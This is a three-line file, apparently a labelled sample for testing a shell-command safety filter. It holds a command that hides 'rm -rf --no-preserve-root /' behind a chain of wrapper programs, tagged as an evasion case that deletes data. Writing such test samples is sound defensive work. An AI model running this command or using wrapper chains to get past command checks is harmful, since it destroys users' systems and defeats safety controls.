# evasion: rm behind a chain of wrapper commands
# grade: medium; does: delete
nice -n 5 stdbuf -o0 setsid timeout 60 rm -rf --no-preserve-root /
